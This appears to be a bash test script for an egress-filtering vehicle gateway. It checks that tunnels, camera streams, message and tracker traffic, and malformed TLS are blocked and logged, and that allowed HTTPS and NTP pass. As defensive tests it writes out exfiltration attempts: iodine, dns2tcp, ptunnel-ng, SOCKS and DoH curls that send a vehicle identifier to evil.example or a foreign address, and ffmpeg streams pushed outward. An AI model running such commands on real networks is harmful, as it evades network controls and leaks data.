#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# Real programs as the unit: tunnels, cameras, remote shells and messages, each stopped, recorded with its reason, and
# not seen behind the gateway; and programs that are allowed. Prints TAP.
. "$LAB_LIB"
. tests/live/tap.sh

cat >$LAB/programs.policy <<END
policy "programs" version 1
uplink {
    resolver $RESOLVER4
    names 20/hour
    pass tls "$TELEMETRY" port 443 version "1.2"
    pass tls "*.zone.fleet.example" port 443
    pass ntp "other.fleet.example" rate 10/min
    deny otherwise reset
}
END
VIN=SALLYPRT0VAN00042

# Whatever goes to the foreign server, from whomever, and to the listed one but for what is allowed.
count_foreign() {
    cloud nft -f - <<END
table inet watch {
    counter foreign { }
    counter named { }
    chain in {
        type filter hook prerouting priority 0;
        ip daddr $FOREIGN4 counter name foreign
        ip saddr 10.66.0.0/24 counter name foreign
        ip daddr $CLOUD4 udp dport != 123 counter name named
        ip daddr $CLOUD4 tcp dport 0-65535 counter name named
    }
}
END
}
packets() { cloud nft list counter inet watch "$1" | grep -o 'packets [0-9]*'; }
records() { lab_log --json --all --reason "$1" | grep -o '"count":[0-9]*' | awk -F: '{ sum += $2 } END { print sum + 0 }'; }

# attempt NAME REASON SECONDS COMMAND...   the command may go on for so long.
attempt() {
    local name=$1 reason=$2 seconds=$3 before foreign named
    shift 3
    before=$(records "$reason") foreign=$(packets foreign) named=$(packets named)
    unit timeout -k 1 "$seconds" "$@" >"$LAB/attempt.out" 2>&1 </dev/null
    claim "$name is recorded as $reason" lab_wait 6 more_than "$before" "$reason" || tail -5 $LAB/attempt.out | sed 's/^/# said: /'
    claim "$name leaves nothing behind the gateway" same "$(packets foreign), $(packets named)" "$foreign, $named"
}
more_than() { [ "$(records "$2")" -gt "$1" ]; }
have() { command -v "$1" >/dev/null || { echo "ok $((++TAP_NUMBER)) - $2 # SKIP $1 is not installed"; return 1; }; }

lab_network && lab_cloud && count_foreign
lab_gateway_files && lab_policy $LAB/programs.policy >$LAB/compile.out 2>&1 || cat $LAB/compile.out
lab_gateway_start
need "the gateway starts" lab_is_ready
unit dig +short $TELEMETRY >/dev/null
unit dig +short other.fleet.example >/dev/null

# --- Tunnels.
have iodine "iodine" && {
    attempt "iodine by the gateway's resolver" name_not_allowed 8 iodine -f -r -P x 10.66.0.1 t.evil.example
    attempt "iodine by a resolver of its own" foreign_resolver 8 iodine -f -r -P x $FOREIGN4 t.evil.example
    attempt "iodine through an allowed zone" name_type 8 iodine -f -r -P x 10.66.0.1 t.zone.fleet.example
}
attempt "names below an allowed zone that are all different" name_budget_spent 20 sh -c "for i in 1 2 3 4 5 6 7 8 9 a b c d e f g h i j k l m n; do dig +tries=1 +time=1 \${i}$VIN.zone.fleet.example; done"
have dns2tcpc "dns2tcp" && attempt "dns2tcp" name_malformed 8 sh -c "dns2tcpc -z t.evil.example -k x -r ssh -l 2222 10.66.0.1 & sleep 1; echo $VIN | ncat -w 3 127.0.0.1 2222"
have ptunnel-ng "ptunnel-ng" && attempt "ptunnel-ng" protocol_not_allowed 5 sh -c "ptunnel-ng -p $FOREIGN4 -l 8000 -r127.0.0.1 -R22 & sleep 1; echo $VIN | ncat -w 2 127.0.0.1 8000; wait"
have htc "httptunnel" && attempt "httptunnel" address_not_named 6 sh -c "htc -F 8888 $FOREIGN4:80 & sleep 1; echo $VIN | ncat -w 3 127.0.0.1 8888"
have stunnel4 "stunnel" && {
    printf 'foreground = yes\npid =\n[x]\nclient = yes\naccept = 127.0.0.1:7001\nconnect = %s:443\nsni = evil.example\n' $CLOUD4 >$LAB/stunnel.conf
    attempt "stunnel to the listed host under another name" server_name_mismatch 6 sh -c "stunnel4 $LAB/stunnel.conf & sleep 1; echo $VIN | ncat -w 3 127.0.0.1 7001"
}
have ssh "ssh" && {
    attempt "ssh to a stranger" address_not_named 5 ssh -o StrictHostKeyChecking=no -o ConnectTimeout=3 x@$FOREIGN4
    attempt "ssh to the listed host on its TLS port" not_tls 6 ssh -o StrictHostKeyChecking=no -o ConnectTimeout=3 -p 443 x@$TELEMETRY
}
have openvpn "openvpn" && {
    printf 'x\ny\n' >$LAB/auth
    attempt "openvpn over UDP" tunnel_attempt 6 openvpn --client --dev null --proto udp --remote $FOREIGN4 1194 --nobind --ca $LAB/cloud.pem --auth-user-pass $LAB/auth
    attempt "openvpn over TCP" tunnel_attempt 6 openvpn --client --dev null --proto tcp-client --remote $FOREIGN4 1194 --nobind --ca $LAB/cloud.pem --auth-user-pass $LAB/auth
}
attempt "SOCKS" tunnel_attempt 6 curl -s -m 4 --socks5-hostname $FOREIGN4:1080 http://evil.example/$VIN

# --- Cameras.
have ffmpeg "ffmpeg" && {
    camera=(ffmpeg -nostdin -loglevel error -re -f lavfi -i testsrc=size=320x240:rate=10 -t 3)
    attempt "ffmpeg pushing RTSP" video_stream 8 "${camera[@]}" -c:v mpeg4 -f rtsp -rtsp_transport tcp rtsp://$FOREIGN4:554/camera
    attempt "ffmpeg pushing RTMP" video_stream 8 "${camera[@]}" -c:v flv -f flv rtmp://$FOREIGN4/live/camera
    attempt "ffmpeg sending RTP" video_stream 8 "${camera[@]}" -c:v mpeg4 -f rtp rtp://$FOREIGN4:5004
    attempt "ffmpeg sending a transport stream" video_stream 8 "${camera[@]}" -c:v mpeg2video -f mpegts udp://$FOREIGN4:1234?pkt_size=1316
    attempt "ffmpeg pushing RTSP to the listed host's TLS port" video_stream 8 "${camera[@]}" -c:v mpeg4 -f rtsp -rtsp_transport tcp rtsp://$TELEMETRY:443/camera
}

# --- Messages, and what trackers send.
have mosquitto_pub "mosquitto_pub" && {
    attempt "mosquitto_pub to the listed host's other port" port_not_allowed 6 mosquitto_pub -h $TELEMETRY -p 1883 -t vehicle -m $VIN
    attempt "mosquitto_pub to the listed host's TLS port" not_tls 6 mosquitto_pub -h $TELEMETRY -p 443 -t vehicle -m $VIN
}
attempt "a tracker's report" vehicle_data 5 sh -c "echo '(088040000460BR00151024A5230.0000N01315.0000E004.7055148276.1701000000L00009AA3)' | ncat -w 2 $FOREIGN4 5002"
attempt "a tracker's datagram" vehicle_data 5 sh -c "echo '*HQ,4210000415,V1,164549,A,5230.0000,N,01315.0000,W,000.00,000,221215,FFFFFBFF#' | ncat -u -w 1 $FOREIGN4 5013"

# --- TLS that is not what the rule asks for.
attempt "an old TLS" version_too_old 6 openssl s_client -connect $TELEMETRY:443 -servername $TELEMETRY -tls1_1 -cipher ALL@SECLEVEL=0
attempt "curl to a DNS server over HTTPS" address_not_named 6 curl -sk -m 4 --doh-insecure --doh-url https://$FOREIGN4/dns-query https://evil.example/$VIN
attempt "plain bytes on the TLS port" not_tls 8 sh -c "echo $VIN | ncat -w 5 $TELEMETRY 443"
attempt "a byte a second" hello_silent 9 sh -c 'for byte in 26 3 1 2 0 1; do printf "\\$byte"; sleep 1; done | ncat "$0" 443' $TELEMETRY
attempt "no server name" no_server_name 6 openssl s_client -connect $TELEMETRY:443 -noservername
attempt "a listed name to an unlisted address" address_not_named 6 curl -sk -m 4 --resolve $TELEMETRY:443:$FOREIGN4 https://$TELEMETRY/$VIN
attempt "a listed address under an unlisted name" server_name_mismatch 6 curl -sk -m 4 --resolve evil.example:443:$CLOUD4 https://evil.example/$VIN

# --- What is allowed.
claim "curl over HTTP/1.1" unit curl -sSf -m 10 --http1.1 --cacert $LAB/cloud.pem -o /dev/null https://$TELEMETRY/bytes/1000
claim "curl that offers HTTP/2" unit curl -sSf -m 10 --http2 --cacert $LAB/cloud.pem -o /dev/null https://$TELEMETRY/bytes/1000
time_packets() { cloud nft list counter inet hours asked | grep -o 'packets [0-9]*'; }
have ntpdate "ntpdate" && {
    cloud nft add table inet hours
    cloud nft add counter inet hours asked
    cloud nft add chain inet hours in '{ type filter hook prerouting priority 0; }'
    cloud nft add rule inet hours in udp dport 123 udp length 56 counter name asked
    unit timeout 8 ntpdate -q other.fleet.example >$LAB/ntp.out 2>&1
    claim "ntpdate's requests reach the listed server, and are as long as a plain one" sh -c "[ '$(time_packets)' != 'packets 0' ]"
    attempt "a request for time that carries more" protocol_unexpected 5 sh -c "{ printf '\43'; head -c 59 /dev/zero; } | ncat -u -w 1 other.fleet.example 123"
}
lab_gateway_stop
claim "the ledger of all this is whole" sallyport verify $GW/ledger --key $GW/ledger.pub
tap_done
